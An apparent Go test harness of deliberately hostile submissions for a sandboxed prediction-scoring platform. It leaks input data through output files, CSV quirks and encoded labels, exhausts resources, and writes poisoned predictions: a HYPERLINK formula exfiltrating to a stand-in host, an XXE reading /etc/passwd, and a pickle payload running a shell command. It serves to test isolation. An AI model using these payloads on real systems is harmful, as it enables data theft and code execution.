package hostile

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"slices"
	"strconv"
	"strings"
	"time"
)

func init() {
	facts["tell"] = (*program).tell
	facts["recognise"] = (*program).recognise
}

// tell asks one question of its data and answers it by what it does: tell MARK YES
// NO does YES where MARK lies in /input, and NO where it does not. Each is one of
// deeds, with a number behind a colon where it takes one.
func (p *program) tell() int {
	inputs, _ := filepath.Glob("/input/*")
	var all []byte
	for _, f := range inputs {
		b, _ := os.ReadFile(f)
		all = append(all, b...)
	}
	if bytes.Count(all, []byte("\n")) < 200 {
		return p.answer(nil)
	}
	mark, do := p.args[0], p.args[2]
	yes := bytes.Contains(all, []byte(mark))
	if yes {
		do = p.args[1]
	}
	p.say("told %v of %d marks", yes, len(Mark.FindAll(all, -1)))
	name, number, _ := strings.Cut(do, ":")
	n, _ := strconv.Atoi(number)
	deed, ok := deeds[name]
	if !ok {
		p.say("no such deed: %s", name)
		return 2
	}
	return deed(p, all, n)
}

// deeds are what tell chooses between. They get all that lies in /input and their
// number, and return the exit code.
var deeds = map[string]func(p *program, input []byte, n int) int{
	"quiet": func(p *program, _ []byte, _ int) int { return p.answer(nil) },
	"print": func(p *program, input []byte, _ int) int {
		for i, m := range Mark.FindAll(input, -1) {
			if i < 4 { // each takes two names, and the prediction needs one
				p.smuggle(m)
			}
			p.say("%s %x", m, m)
		}
		p.smuggle(input)
		return p.answer(nil)
	},
	"exit": func(_ *program, _ []byte, n int) int { return n },
	"crash": func(*program, []byte, int) int {
		debug.SetTraceback("crash")
		var nowhere *int
		return *nowhere
	},
	"memory": func(p *program, _ []byte, _ int) int {
		p.args = nil
		p.memory()
		return 0
	},
	"wait": func(p *program, _ []byte, n int) int {
		time.Sleep(time.Duration(n) * time.Millisecond)
		return p.answer(nil)
	},
	"burn": func(p *program, _ []byte, n int) int {
		keep := bytes.Repeat([]byte{1}, 100<<20)
		for end := time.Now().Add(time.Duration(n) * time.Millisecond); time.Now().Before(end); {
			sha256.Sum256(keep[:1<<20])
		}
		runtime.KeepAlive(keep)
		return p.answer(nil)
	},
	"progress": func(p *program, _ []byte, n int) int {
		for i := range n {
			p.say("progress %d of %d", i, n)
			_ = os.WriteFile("/output/progress", fmt.Appendf(nil, "%d", i), 0o644)
			time.Sleep(100 * time.Millisecond)
		}
		return p.answer(nil)
	},
	// Beside the prediction as much as fits, in names and in bytes.
	"files": func(p *program, input []byte, n int) int {
		for i := range n {
			_ = os.WriteFile(fmt.Sprintf("/output/%d", i), input[:min(len(input), 200<<10)], 0o644)
		}
		return p.answer(nil)
	},
	// The same answers, and as much beside them as CSV lets one write: in the order
	// of the rows, quotes and line ends.
	"dressed": func(p *program, _ []byte, _ int) int {
		return p.answer(func(rows [][]string) []byte {
			slices.Reverse(rows[1:])
			var b bytes.Buffer
			for _, r := range rows {
				fmt.Fprintf(&b, "\"%s\"\r\n", strings.Join(r, `","`))
			}
			return b.Bytes()
		})
	},
	// The answers themselves carry the data: a class for each row, by a digest of it.
	"encode": func(p *program, _ []byte, _ int) int {
		t, in := rowsOfInput()
		if len(t.Output.Columns) == 0 || len(t.Output.Columns[0].Classes) == 0 {
			return 2
		}
		classes := t.Output.Columns[0].Classes
		return p.answer(func(rows [][]string) []byte {
			for i := 1; i < min(len(rows), len(in)); i++ {
				rows[i][1] = classes[int(digestOf(in[i])[0])%len(classes)]
			}
			return table(rows)
		})
	},
	// Predictions that a scorer refuses, and might quote when it does.
	"label":    cell(func(mark string) string { return mark }),
	"strange":  cell(func(string) string { return "x" }),
	"formula":  cell(func(mark string) string { return `=HYPERLINK("http://example.invalid/` + mark + `")` }),
	"entity":   cell(func(string) string { return `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>` }),
	"long":     cell(func(string) string { return strings.Repeat("9", 6<<20) }),
	"columns":  raw(func() []byte { return []byte(strings.Repeat("event_id,department,", 100_000) + "\n") }),
	"unclosed": raw(func() []byte { return []byte("event_id,department\n\"" + strings.Repeat("\"\"", 2<<20)) }),
	"pickle":   raw(func() []byte { return []byte("\x80\x04cos\nsystem\n(S'id > /tmp/pwned'\ntR.") }),
	"none":     func(*program, []byte, int) int { return 0 },
	// Trainings: all that they saw, or nothing.
	"hoard": func(p *program, _ []byte, _ int) int { p.hoard(); return 0 },
	"forget": func(*program, []byte, int) int {
		_ = os.WriteFile("/output/weights", []byte("0"), 0o644)
		return 0
	},
}

// answer writes plausible predictions, and then as change would have them.
func (p *program) answer(change func(rows [][]string) []byte) int {
	p.predict()
	if change == nil {
		return 0
	}
	t, _ := rowsOfInput()
	name := "/output/" + t.Output.File
	b, err := os.ReadFile(name)
	if err != nil {
		return 2
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(rows) < 2 || len(rows[0]) < 2 || os.WriteFile(name, change(rows), 0o644) != nil {
		return 2
	}
	return 0
}

// cell is a deed that answers the first row with what value makes of a mark that
// lies in the data.
func cell(value func(mark string) string) func(*program, []byte, int) int {
	return func(p *program, input []byte, _ int) int {
		return p.answer(func(rows [][]string) []byte {
			rows[1][1] = value(string(Mark.Find(input)))
			return table(rows)
		})
	}
}

// raw is a deed that leaves these bytes as its predictions.
func raw(content func() []byte) func(*program, []byte, int) int {
	return func(p *program, _ []byte, _ int) int {
		return p.answer(func([][]string) []byte { return content() })
	}
}

func table(rows [][]string) []byte {
	var b bytes.Buffer
	_ = csv.NewWriter(&b).WriteAll(rows) // into memory
	return b.Bytes()
}

// rowsOfInput reads a CSV input with its header; the key is its first column.
func rowsOfInput() (t task, rows [][]string) {
	if b, err := os.ReadFile("/input/task.json"); err != nil || json.Unmarshal(b, &t) != nil {
		return t, nil
	}
	b, _ := os.ReadFile("/input/" + t.Input.File)
	rows, _ = csv.NewReader(bytes.NewReader(b)).ReadAll()
	return t, rows
}

// digestOf is a digest of a row without its key, which is the first column.
func digestOf(row []string) [sha256.Size]byte {
	return sha256.Sum256([]byte(strings.Join(row[1:], "\x00")))
}

// recognise says for each row its id and a digest of the rest. Where its image
// brings what an earlier run said so, it says how many of its rows it knows again,
// by their ids and by their places.
func (p *program) recognise() int {
	_, rows := rowsOfInput()
	b, _ := os.ReadFile("/opt/sample.csv")
	known := map[string]bool{}
	var places []string
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) == 3 && f[0] == "row" {
			known[f[1]] = true
			places = append(places, f[2])
		}
	}
	ids, stand := 0, 0
	for i, r := range rows[min(1, len(rows)):] {
		d := digestOf(r)
		rest := fmt.Sprintf("%x", d[:6])
		if known[r[0]] {
			ids++
		}
		if i < len(places) && places[i] == rest {
			stand++
		}
		if len(places) == 0 {
			p.say("row %s %s", r[0], rest)
		}
	}
	p.say("knew %d ids and %d places of %d, %d are known", ids, stand, max(0, len(rows)-1), len(places))
	return p.answer(nil)
}
